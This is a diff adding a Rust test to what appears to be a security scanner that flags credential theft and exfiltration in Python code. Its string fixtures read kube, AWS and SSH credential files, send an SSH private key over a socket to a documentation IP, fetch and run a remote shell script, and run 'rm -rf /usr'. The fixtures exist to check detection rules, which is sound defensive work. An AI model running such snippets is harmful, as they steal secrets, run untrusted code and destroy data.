@@ -385,3 +385,26 @@ fn a_decorators_wrapper_called_from_another_function_keeps_what_it_wraps() {
         "import os\ndef outer():\n    def inner():\n        os.system(cmd)\n    cmd = 'rm -rf /usr'\n    inner()\nouter()\n",
     );
 }
+
+#[test]
+fn dataclass_fields_hold_what_each_instance_was_given() {
+    // Records built with positional and keyword fields, a `field(default_factory=...)`
+    // default, and a method reading `self.<field>`.
+    fires(
+        "CRD205",
+        "from dataclasses import dataclass\n@dataclass\nclass Source:\n    name: str\n    path: str\nfor src in [Source('kube', '~/.kube/config'), Source(name='aws', path='~/.aws/credentials')]:\n    print(open(__import__('os').path.expanduser(src.path)).read())\n",
+    );
+    fires(
+        "CRD109",
+        "import socket\nfrom dataclasses import dataclass, field\nfrom pathlib import Path\n@dataclass(frozen=True)\nclass Sync:\n    host: str = '203.0.113.5'\n    files: list = field(default_factory=lambda: [Path.home() / '.ssh' / 'id_rsa'])\n    def payload(self):\n        return b''.join(f.read_bytes() for f in self.files)\nc = Sync()\nsocket.create_connection((c.host, 9)).sendall(c.payload())\n",
+    );
+    fires(
+        "CRD102",
+        "import subprocess\nfrom typing import NamedTuple\nclass Step(NamedTuple):\n    name: str\n    argv: list\nfor step in [Step('get', ['curl', '-o', '/tmp/s.sh', 'https://h.example/s.sh']), Step('run', ['sh', '/tmp/s.sh'])]:\n    subprocess.run(step.argv)\n",
+    );
+    // Another instance's fields are its own.
+    silent(
+        "CRD205",
+        "from dataclasses import dataclass\n@dataclass\nclass Out:\n    path: str\na = Out('~/.ssh/id_rsa')\nb = Out('report.txt')\nprint(open(b.path).read())\n",
+    );
+}
